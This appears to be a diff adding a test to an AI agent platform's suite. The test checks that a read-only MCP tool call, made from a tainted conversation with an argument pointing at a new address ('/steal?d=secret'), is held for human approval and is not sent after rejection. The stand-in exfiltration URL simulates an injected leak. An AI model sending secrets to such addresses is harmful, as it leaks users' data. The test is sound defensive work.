@@ -3,6 +3,8 @@ import type { LookupAllOptions } from 'node:dns'
 import dns from 'node:dns/promises'
 import { syncBuiltinESMExports } from 'node:module'
 import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
+import { startScriptedMcpServer } from '../../fixtures/mcp-scripted-server.ts'
+import { eventually } from '../../support/eventually.ts'
 import { actor, type Call, outsideConfiguration } from '../../support/faults/outside-actor.ts'
 import { type ScriptedCall, turn } from '../../support/provider/upstream-turns.ts'
 import { useUpstream } from '../../support/provider/use-upstream.ts'
@@ -272,6 +274,38 @@ describeOnEachServer('new addresses', (start) => {
     await call('POST', `/api/runs/${data.run_id}/stop`)
     await stream.all()
     expect([lookups, hits]).toEqual([[], []])
+  })
+
+  test('an MCP tool at low risk waits for a person if an argument is a new address', async () => {
+    const shop = await startScriptedMcpServer({
+      tools: [
+        {
+          name: 'look',
+          description: 'Looks at a page',
+          inputSchema: { type: 'object', properties: { page: { type: 'string' } } },
+          annotations: { readOnlyHint: true },
+        },
+      ],
+    })
+    await call('POST', '/api/admin/mcp', { name: 'shop', url: shop.url, trust_hints: true })
+    await eventually(async () =>
+      expect((await call('GET', '/api/admin/mcp')).data.items).toMatchObject([
+        { name: 'shop', state: 'connected' },
+      ]),
+    )
+    const look = (page: string): ScriptedCall => ({ name: 'mcp__shop__look', arguments: { page } })
+    const conversation = await tainted()
+    const leak = at('secret-words', '/steal?d=secret')
+    const request = await requestOf(conversation, [look(leak)])
+    expect(request).toMatchObject({
+      risk_level: 'medium',
+      preview: { warning_code: 'new_address', addresses: [leak] },
+    })
+    await request.decide('reject')
+    expect([shop.calls, lookups]).toEqual([[], []])
+    expect(await requestOf(conversation, [look(at('listed', '/listed'))])).toBeUndefined()
+    expect(shop.calls).toHaveLength(1)
+    await call('DELETE', '/api/admin/mcp/shop')
   })
 
   test('what a command prints is known, except what its command line says', async () => {
